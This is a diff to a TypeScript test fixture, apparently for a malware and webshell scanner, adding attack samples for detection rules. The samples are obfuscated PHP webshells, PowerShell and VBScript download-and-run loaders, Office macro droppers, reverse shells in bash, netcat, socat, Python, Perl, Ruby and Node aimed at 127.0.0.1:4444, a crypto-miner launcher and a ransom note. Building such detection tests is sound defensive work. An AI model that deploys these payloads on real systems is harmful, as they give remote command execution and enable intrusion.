@@ -7,6 +7,14 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
     whole('GIF89a;\n<?php sys¦tem($_G¦ET["cmd"]); ?>'),
     whole('<?= shell_¦exec($_REQ¦UEST[0]) ?>'),
   ],
+  Assay_Webshell_PHP_Variable: [
+    whole('<?php\n$c = $_PO¦ST["x"];\n$o = shell_¦exec ($c);\necho $o;'),
+    whole('<?php $c = $_GE¦T["x"]; call_user_¦func("sys¦tem", $c);'),
+  ],
+  Assay_Webshell_PHP_Hidden_Name: [
+    whole('<?php $f = "sy¦s" . "te¦m"; $f($_GE¦T["x"]);'),
+    whole('<?php $f = base64_decode("c3lz¦dGVt"); $f($_GE¦T["x"]);'),
+  ],
   Assay_Webshell_PHP_Packed: [whole('<?php\n$x = 1;\nev¦al(gzin¦flate(base64_¦decode("S0ktLk4FAA==")));')],
   Assay_Webshell_PHP_Family: [
     whole("<?php $default_action = 'Files¦Man'; function ex($c) { passt¦hru($c); shell_¦exec($c); }"),
@@ -36,6 +44,15 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
       'power¦shell.exe -no¦p -w hid¦den -c "IE¦X (New-Object Net.Web¦Client).Download¦String(\'http://127.0.0.1/a\')"',
     ),
   ],
+  Assay_Script_PowerShell_Broken_Words: [
+    whole("&('I'+¦'EX') (New-Object ('Net.We'+'bCl¦ient')).('Down'¦+'loadString')('http://127.0.0.1/a')"),
+    whole('& ("{1}{0}" ¦-f "EX","I") $x'),
+  ],
+  Assay_Script_PowerShell_Unpacker: [
+    whole(
+      '$b = [Convert]::FromBase¦64String("AAAA"); $s = New-Object IO.Compression.Gzip¦Stream($m, 0); Invoke-Expre¦ssion $r.ReadToEnd()',
+    ),
+  ],
   Assay_Script_PowerShell_Encoded: ['', ' ', '  '].map((shift) =>
     whole('power¦shell -e ').concat(
       Buffer.from(
@@ -54,13 +71,17 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
   ],
   Assay_Script_WScript_Dropper: [
     whole(
-      'var s = new ActiveXObject("WScr¦ipt.Shell"); var g = new ActiveXObject("MSX¦ML2.XMLHTTP"); var o = new ActiveXObject("ADO¦DB.Stream"); o.Save¦ToFile(s.ExpandEnvironmentStrings("%TE¦MP%") + "/a.exe"); s.Ru¦n("a.exe");',
+      'var s = new Active¦XObject("WScr¦ipt.Shell"); var g = new Active¦XObject("MSX¦ML2.XMLHTTP"); var o = new Active¦XObject("ADO¦DB.Stream"); o.Save¦ToFile(s.ExpandEnvironmentStrings("%TE¦MP%") + "/a.exe"); s.Ru¦n("a.exe");',
     ),
   ],
-  Assay_Script_HTA_Loader: [
+  Assay_Script_Command_Launcher: [
     whole(
-      '<html><head><scr¦ipt language="VBScript">CreateObject("WScr¦ipt.Shell").Ru¦n "power¦shell -c calc", 0\nwindow.clo¦se</script></head></html>',
+      '<html><head><scr¦ipt language="VBScript">Create¦Object("WScr¦ipt.Shell").Ru¦n "power¦shell -w hid¦den -en¦c AAAA", 0\nwindow.clo¦se</script></head></html>',
     ),
+  ],
+  Assay_Script_Hidden_Words: [
+    whole('Set s = Create¦Object(StrRev¦erse("lle¦hS.tpi¦rcSW"))\ns.Ru¦n "calc", 0\n'),
+    whole('var s = new Active¦XObject("WScr"¦ + "ipt.She" + "ll"); s.Ru¦n("calc");'),
   ],
   Assay_Script_Batch_Dropper: [
     whole(
@@ -81,7 +102,9 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
     whole('ba¦sh -i >& /de¦v/tcp/127.0.0.1/4444 0>&¦1\n'),
     whole('#!/bin/bash\n# maintenance\nba¦sh -i >& /de¦v/tcp/127.0.0.1/4444 0>&¦1\n'),
   ],
-  Assay_Script_ReverseShell_Fifo: [
+  Assay_Script_ReverseShell_Netcat: [
+    whole('n¦c -e /bi¦n/sh 127.0.0.1 4444\n'),
+    whole("so¦cat TCP:127.0.0.1:4444 EX¦EC:'bash -li',pty\n"),
     whole('rm /tmp/f;mkf¦ifo /tmp/f;cat /tmp/f|/bin/s¦h -i 2>&1|n¦c 127.0.0.1 4444 >/tmp/f\n'),
   ],
   Assay_Script_ReverseShell_Python: [
@@ -89,9 +112,17 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
       'import socket,os,pty;s=socket.soc¦ket();s.conn¦ect(("127.0.0.1",4444));os.du¦p2(s.fileno(),0);os.du¦p2(s.fileno(),1);pty.sp¦awn("/bin/sh")',
     ),
   ],
-  Assay_Script_ReverseShell_Perl: [
+  Assay_Script_ReverseShell_Perl_Ruby: [
+    whole(
+      'require "socket"; c = TCPSo¦cket.new("127.0.0.1", 4444); while l = c.ge¦ts; IO.po¦pen(l) { |o| c.print o.read }; end',
+    ),
     whole(
       'use Soc¦ket;socket(S,PF_INET,SOCK_STREAM,getproto¦byname("tcp"));open(STD¦IN,">&S");open(STD¦OUT,">&S");exec("/bin/s¦h -i");',
+    ),
+  ],
+  Assay_Script_ReverseShell_Program: [
+    whole(
+      'const n = require("net"), p = require("child_¦process").spawn("/bin/s¦h"); const c = new n.Socket(); c.conn¦ect(4444, "127.0.0.1", () => c.pi¦pe(p.stdin))',
     ),
   ],
   Assay_Script_ReverseShell_PHP: [
@@ -113,17 +144,22 @@ export const attackSamples: Record<string, (string | Uint8Array)[]> = {
   Assay_Miner_Script: [whole('#!/bin/sh\nno¦hup ./xm¦rig -o strat¦um+tcp://127.0.0.1:3333 -u x >/dev/null 2>&1 &\n')],
   Assay_Ransom_Note: [
     whole(
-      'ALL YOUR FI¦LES HAVE BEEN ENCRYPTED!\nDo not ren¦ame them. Install Tor Brow¦ser, open http://example.on¦ion and pay 1 bit¦coin.\n',
+      'ALL YOUR FI¦LES HAVE BEEN ENCRYPTED!\nDo not ren¦ame them. Install Tor Brow¦ser, open http://example.on¦ion and pay 1 bit¦coin within 72 hours.\n',
     ),
   ],
   Assay_Macro_Downloader: [
     whole(
-      'Attribute VB_Name = "M"\r\nSub Auto¦Open()\r\nURLDown¦loadToFile 0, "http://127.0.0.1/a", "a.exe", 0, 0\r\nCreateObject("WScr¦ipt.Shell").Run "a.exe"\r\nEnd Sub\r\n',
+      'Attribute VB_Name = "M"\r\nSub Auto¦Open()\r\nURLDown¦loadToFile 0, "http://127.0.0.1/a", "a.exe", 0, 0\r\nCreate¦Object("WScr¦ipt.Shell").Run "a.exe"\r\nEnd Sub\r\n',
     ),
   ],
   Assay_Macro_Command: [
     whole(
       'Attribute VB_Name = "M"\r\nPrivate Sub Docu¦ment_Open()\r\nSh¦ell "power¦shell -no¦p -en¦c AAAA", vbHi¦de\r\nEnd Sub\r\n',
+    ),
+  ],
+  Assay_Macro_Hidden_Words: [
+    whole(
+      'Attribute VB_Name = "M"\r\nSub Auto¦Open()\r\nSet s = Create¦Object(StrRev¦erse("lle¦hS.tpi¦rcSW"))\r\ns.Ru¦n x\r\nEnd Sub\r\n',
     ),
   ],
   Assay_Macro_Shellcode: [
